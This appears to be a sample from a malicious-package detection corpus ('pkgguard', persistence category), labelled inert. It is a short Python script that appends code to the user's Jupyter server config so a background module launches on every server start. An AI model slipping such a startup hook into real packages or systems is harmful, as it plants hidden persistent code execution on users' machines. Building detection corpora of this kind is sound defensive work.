# pkgguard corpus 670 (persistence), modelled on [startup-hooks]; inert, never run.
import os

cfg = os.path.expanduser("~/.jupyter/jupyter_server_config.py")
os.makedirs(os.path.dirname(cfg), exist_ok=True)
with open(cfg, "a", encoding="utf-8") as fh:
    fh.write("\nimport subprocess\nsubprocess.Popen(['python3', '-m', 'pkg.agent'])\n")
